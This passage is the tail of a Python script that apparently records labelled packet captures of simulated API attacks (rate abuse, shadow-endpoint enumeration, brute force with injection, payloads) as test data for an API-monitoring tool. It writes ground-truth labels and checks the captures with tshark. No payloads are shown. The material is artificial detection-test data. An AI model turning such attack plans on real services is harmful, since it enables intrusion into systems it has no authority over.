                                 "clients": planned_clients(plan)} for plan in plans},
        "attacks": [label for plan in plans for label in plan.labels],
        "exposures": exposures(plans),
        "expected_benign_findings": benign_findings(plans),
        "tolerated_findings": tolerated_findings(),
        "spec_coverage": {
            "shadow_operations": [f"GET {API}/internal/debug", f"GET {API}/admin/export"],
            "zombie_operations": [f"DELETE {API}/products/{{id}}"],
            "note": "shadow: served, not documented (the 404 probes of 127.0.0.69 are neither served nor shadow "
                    "endpoints); zombie: documented and implemented, never called in any capture",
        },
        "attacker_addresses": sorted(attackers),
    }


def check_plans() -> None:
    """Invariants the labels rely on; cheap, so checked on every run."""
    if not all(luhn_valid(number) for number in TEST_CARD_NUMBERS):
        raise SystemExit("a test card number fails the Luhn check")
    orders = sum(call.path == f"{API}/orders" and call.method == "POST" for client in normal_clients()
                 for call in client.calls)
    if orders < BASELINE_ORDERS:
        raise SystemExit(f"normal clients send {orders} orders, fewer than the {BASELINE_ORDERS} of the baseline")
    normal = {client.src_ip for client in normal_clients()}
    for plan in all_plans():
        if normal & {client.src_ip for client in plan.attackers}:
            raise SystemExit(f"{plan.name}: an attacker uses a normal client's address")


def all_plans() -> list[CapturePlan]:
    return [rate_abuse_plan(), enum_shadow_plan(), bruteforce_injection_plan(), payload_plan()]


def main() -> None:
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent
    for tool in ("tcpdump", "curl", "tshark"):
        if shutil.which(tool) is None:
            raise SystemExit(f"{tool} not found on PATH")
    ensure_port_free(HOST, PORT)
    check_plans()
    plans = all_plans()
    with tempfile.TemporaryDirectory(prefix="apispy-attacks-") as temporary:
        workdir = Path(temporary)
        for plan in plans:
            record(plan, workdir)
        rows = []
        for plan in plans:
            capture = workdir / plan.name
            size = capture.stat().st_size
            if size >= MAX_CAPTURE_BYTES:
                raise SystemExit(f"{plan.name} is {size} bytes, over the {MAX_CAPTURE_BYTES}-byte limit")
            observed, planned = observed_clients(capture), planned_clients(plan)
            if observed != planned:
                raise SystemExit(f"{plan.name}: tshark sees {observed}, the plan says {planned}")
            unplanned = observed_requests(capture) - planned_requests(plan)
            if unplanned:
                raise SystemExit(f"{plan.name}: requests on the wire that the plan does not have: {unplanned}")
            requests, responses = tshark_counts(capture, PORT)
            total = sum(client["requests"] for client in planned.values())
            print(f"{plan.name}: {size} bytes, {total} requests, tshark requests={requests} responses={responses}")
            rows.append(f"| {plan.name} | record_attacks.py | ether | {packet_count(capture)} | {total} | {total} | "
                        f"`-d tcp.port=={PORT},http` | {requests} | {responses} | {plan.summary} |")
        out.mkdir(parents=True, exist_ok=True)
        for plan in plans:
            shutil.move(workdir / plan.name, out / plan.name)
        (out / "attacks_labels.json").write_text(json.dumps(labels_document(plans), indent=2) + "\n")
    print("pcaps/MANIFEST.md rows:")
    print("\n".join(rows))


if __name__ == "__main__":
    main()
